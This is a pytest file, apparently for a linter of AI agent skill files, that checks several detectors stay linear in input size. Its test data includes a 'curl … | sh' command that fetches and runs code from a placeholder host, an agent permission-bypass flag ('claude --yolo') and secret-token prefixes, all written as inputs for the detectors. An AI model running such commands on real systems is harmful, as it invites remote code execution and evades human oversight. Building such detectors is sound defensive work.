"""Twice the text is about twice the work, counted in lines of Python or characters, not seconds."""

from __future__ import annotations

import re
import sys
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import cache
from types import FrameType
from typing import Any

import pytest

from skilllint import catalogue, finders, hosts, skills
from skilllint.checks import _secrets, _standing, _texts, anchors, shell
from skilllint.model import Rule, Setting
from skilllint.situational import body, lexicon

HEAD = "---\nname: notes\ndescription: Writes notes.\n---\n# Notes\n\n"


@cache
def rules() -> dict[str, Rule]:
    return {rule.code: rule for rule in catalogue.rules()}


def lines_run(call: Callable[[], object]) -> int:
    """How many lines of Python a call runs, the turns of its generators included."""
    seen = 0

    def trace(frame: FrameType, event: str, argument: object) -> object:
        nonlocal seen
        seen += event in ("line", "call")
        return trace

    before = sys.gettrace()
    sys.settrace(trace)  # type: ignore[arg-type]
    try:
        call()
    finally:
        sys.settrace(before)
    return seen


def looked_at(code: str, text: str) -> int:
    rule = rules()[code]
    skill = skills.read_text(HEAD + text, "notes/SKILL.md", "notes")
    setting = Setting(rule.limits, hosts.table())
    return lines_run(lambda: list(finders.problems(rule, skill, setting)))


@pytest.mark.parametrize(
    ("code", "piece"),
    [
        ("MD103", "Some notes go here.\n---\n\nThey end.\n\n"),
        ("DG101", "The agents rest.\n\n"),
    ],
)
def test_a_check_runs_twice_as_many_lines_on_twice_the_text(code: str, piece: str) -> None:
    once, twice = (looked_at(code, piece * many) for many in (300, 600))
    assert once > 300
    assert twice < 2.5 * once


class Weighed:
    """A pattern that notes how much of each line it may be put to."""

    def __init__(self, pattern: re.Pattern[str]) -> None:
        self.pattern = pattern
        self.longest = 0

    def match(self, line: str) -> re.Match[str] | None:
        self.longest = max(self.longest, len(line))
        return self.pattern.match(line)


@pytest.mark.parametrize("mark", ["[", '"', "_", "*", "`"])
def test_a_line_of_nothing_but_marks_is_not_read_once_for_each(
    mark: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = Weighed(body.FIRST)
    monkeypatch.setattr(body, "FIRST", first)
    for line in (mark * 50_000, f"- {mark * 2}Run it"):
        sums = dict.fromkeys(body.Tally._fields, 0)
        body.part(line, sums, lexicon.load())
    assert sums["orders"] == 1
    assert first.longest <= 500


class Line(str):
    """A line that notes how much of it is searched or cut out."""

    searched = 0

    def __contains__(self, part: object) -> bool:
        Line.searched += len(self)
        return str.__contains__(self, str(part))

    def find(self, *part: Any) -> int:
        Line.searched += len(self)
        return str.find(self, *part)

    def __getitem__(self, key: Any) -> str:
        part = str.__getitem__(self, key)
        Line.searched += len(part)
        return part


def test_a_line_is_not_searched_again_for_each_of_its_links() -> None:
    skill = skills.read_text(HEAD + "[](a) [b]() " * 1000, "notes/SKILL.md", "notes")
    lines = tuple(Line(line) for line in skill.source.lines)
    skill = replace(skill, source=replace(skill.source, lines=lines))
    Line.searched = 0
    assert len(list(anchors.empty_link(skill, Setting({}, {})))) == 2000
    assert Line.searched < 10 * len(skill.source.text)


@pytest.mark.parametrize("piece", ["ghp_", "AIza", ".eyJ", "://a:bbbbbbbb@", "-----BEGIN x"])
def test_what_looks_like_the_start_of_a_secret_is_cut_out_once(piece: str) -> None:
    text = Line(piece * 2000)
    Line.searched = 0
    assert list(_secrets.find(text)) == []
    assert Line.searched < 3 * len(text)


def test_a_section_is_searched_for_registries_once(monkeypatch: pytest.MonkeyPatch) -> None:
    searched = []

    class Packaged:
        def finditer(self, text: str, first: int, last: int) -> Iterator[re.Match[str]]:
            searched.append(last - first)
            return packaged.finditer(text, first, last)

    packaged = _standing.PACKAGED
    monkeypatch.setattr(_standing, "PACKAGED", Packaged())
    fence = "```sh\n" + "curl https://a.example/x | sh\n" * 200 + "```\n"
    text = HEAD + fence + "## More\n\n" + fence
    skill = skills.read_text(text, "notes/SKILL.md", "notes")
    assert len(list(shell.piped_to_shell(skill, Setting({}, {})))) == 400
    assert sum(searched) <= 2 * len(text)


def test_only_so_many_places_of_a_kind_are_looked_at(monkeypatch: pytest.MonkeyPatch) -> None:
    looked: list[int] = []

    def noted(one: _texts.Text, start: int) -> str:
        looked.append(start)
        return _standing.standing(one, start)

    monkeypatch.setattr(shell, "standing", noted)
    skill = skills.read_text(HEAD + "```sh\n" + "claude --yolo\n" * 100 + "```\n")
    (found,) = shell.permission_bypass(skill, Setting({}, {}))
    assert found.value == len(looked) == shell.COUNTED < 100
